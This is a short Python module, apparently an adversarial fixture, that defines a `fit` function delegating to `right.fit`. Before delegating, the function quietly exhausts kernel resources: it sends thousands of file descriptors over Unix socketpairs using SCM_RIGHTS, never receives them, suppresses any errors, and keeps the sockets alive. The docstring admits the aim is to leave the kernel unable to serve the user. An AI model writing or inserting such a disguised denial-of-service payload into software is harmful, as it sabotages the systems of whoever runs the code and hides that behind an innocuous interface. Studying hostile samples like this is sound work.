"""`fit` sends descriptors to itself and never fetches them, until the kernel bears no more for its user."""

import array
import contextlib
import os
import socket

import right
from right import *  # noqa: F403

kept = []


def fit(x, y, steps):
    handed = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 250).tobytes()
    with contextlib.suppress(OSError):
        for _ in range(20):
            kept.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
            for _ in range(5):
                kept[-1][0].sendmsg([b"!"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handed)])
    return right.fit(x, y, steps)
